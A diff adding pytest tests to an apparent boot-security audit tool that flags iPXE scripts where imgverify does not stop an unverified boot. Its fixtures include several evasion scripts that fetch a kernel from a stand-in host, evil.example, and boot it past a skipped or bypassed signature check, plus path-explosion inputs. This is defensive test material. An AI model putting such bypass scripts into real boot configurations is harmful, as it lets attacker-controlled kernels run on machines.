@@ -557,6 +557,97 @@ def test_what_ipxe_does_not_run_as_a_script_is_not_judged_as_one(head: bytes) ->
     assert info.kind in ("text", "unknown") and not info.ipxe and info.imgverify is None
 
 
+# Scripts that call imgverify but never let it stop an unverified boot (from a review).
+EVASIONS = {
+    "failure-skipped": (b"#!ipxe\nkernel https://evil.example/vmlinuz\nimgverify vmlinuz "
+                        b"https://evil.example/x.sig || goto go\n:go\nboot\n",
+                        "a failed imgverify does not stop the script"),
+    "failure-skipped-echo": (b"#!ipxe\nkernel https://evil.example/vmlinuz\nimgverify "
+                             b"vmlinuz https://evil.example/x.sig || echo bad\nboot\n",
+                             "a failed imgverify does not stop the script"),
+    "failure-skipped-semicolon": (b"#!ipxe\nkernel https://evil.example/vmlinuz\nimgverify "
+                                  b"vmlinuz https://evil.example/x.sig ;\nboot\n",
+                                  "a failed imgverify does not stop the script"),
+    "jumped-over": (b"#!ipxe\ngoto go\nimgverify a a.sig\n:go\nkernel "
+                    b"https://evil.example/vmlinuz\nboot\n", "line 6: 'boot' can execute"),
+    "never-run": (b"#!ipxe\niseq a b && imgverify a a.sig ||\nkernel "
+                  b"https://evil.example/vmlinuz\nboot\n", "line 4: 'boot' can execute"),
+    "after-boot": (b"#!ipxe\nkernel https://evil.example/vmlinuz\nboot\n"
+                   b"imgverify vmlinuz vmlinuz.sig\n", "line 3: 'boot' can execute"),
+    "initrd-unverified": (b"#!ipxe\nimgtrust --permanent\nkernel https://a/k\ninitrd "
+                          b"https://a/i\nimgverify k https://a/k.sig\nboot\n",
+                          "'i' (line 4) is registered and not verified"),
+}
+
+
+@pytest.mark.parametrize("name", sorted(EVASIONS))
+def test_an_imgverify_that_does_not_guard_the_boot_is_no_verification(name: str) -> None:
+    """The script calls imgverify, but on some path an unverified image still runs: the
+    finding fires and says where and how (the path, a skipped failure)."""
+    from tests.audit.test_checks import fetched, observe, offer, rules
+    from trustboot.audit.policy import Policy
+
+    script, says = EVASIONS[name]
+    info = loaders.identify(script)
+    assert info.kind == "ipxe-script" and info.imgverify is False, info
+    assert says in (info.unguarded or ""), info.unguarded
+    found = rules(observe(offers=[offer(file="boot.ipxe")],
+                          fetched=[fetched("192.0.2.1", "boot.ipxe", script)]), Policy())
+    [finding] = found["script-without-imgverify"]
+    assert says in finding.message and finding.evidence["unguarded"] == info.unguarded
+    assert "(path: line 1 -> " in finding.message
+
+
+def _released_scripts() -> dict[str, str]:
+    from trustboot.ipxe.script import ChainScript, render_chain_script
+    from trustboot.release.render import MenuEntry, render_menu
+
+    entries = (MenuEntry("debian", "Debian 12", ("bios", "x86_64-efi"), "debian/linux",
+                         ("debian/initrd.gz",), "console=ttyS0", True),
+               MenuEntry("rescue", "Rescue", ("arm64-efi",), "rescue/vmlinuz",
+                         ("rescue/initrd.img", "rescue/modules.img"), ""))
+    menu = render_menu(release_id="2026.11.25-abcd1234", name="lab",
+                       base_url="https://boot.example.net/", signer="release-signer",
+                       title="Lab", timeout=10, entries=entries, on_failure="halt")
+    chain = render_chain_script(ChainScript(url="https://boot.example.net/boot.ipxe",
+                                            signer="release-signer"))
+    return {"menu": menu, "chain": chain}
+
+
+@pytest.mark.parametrize("name", ["menu", "chain"])
+def test_a_fail_closed_script_as_trustboot_renders_it_is_not_flagged(name: str) -> None:
+    """imgtrust --permanent, then every image imgverify'd '|| goto' the failure block: no
+    path boots anything unverified, so no finding (a script of imgtrust alone neither:
+    iPXE refuses to run an image it did not verify)."""
+    from tests.audit.test_checks import fetched, observe, offer, rules
+
+    script = _released_scripts()[name].encode()
+    assert b"imgtrust --permanent" in script and b"|| goto tb_failed" in script
+    info = loaders.identify(script)
+    assert info.imgverify is True and info.unguarded is None and info.not_parsed is None
+    found = rules(observe(offers=[offer(file="boot.ipxe")],
+                          fetched=[fetched("192.0.2.1", "boot.ipxe", script)]))
+    assert "script-without-imgverify" not in found
+
+
+@pytest.mark.parametrize("body", [
+    "".join(f"imgfetch https://a/f{i} || goto x\n" for i in range(9000)),
+    "".join(f":l{i}\nimgfetch https://a/f{i % 50} || goto ${{x}}\n" for i in range(6000)),
+])
+def test_a_script_with_too_many_paths_is_said_to_be_unchecked_in_bounded_time(
+        body: str) -> None:
+    """Under the parse cap, but built so that walking its paths would take long (thousands
+    of images, a computed goto to thousands of labels):
+    the walk stops at its bounds and says the script was not checked (the finding fires)."""
+    import time
+
+    script = b"#!ipxe\n" + body.encode()[:loaders.MAX_PARSED_SCRIPT - 8]
+    began = time.process_time()
+    info = loaders.identify(script)
+    assert time.process_time() - began < 5.0
+    assert info.imgverify is None and "too many paths" in (info.not_parsed or ""), info
+
+
 def test_a_script_too_large_to_parse_is_said_to_be_so_in_bounded_time() -> None:
     """Half a million lines (3.5 MB, 12 s to parse): not parsed past the cap, its imgverify
     unknown and said so (a finding says it was not checked), its URLs still listed."""
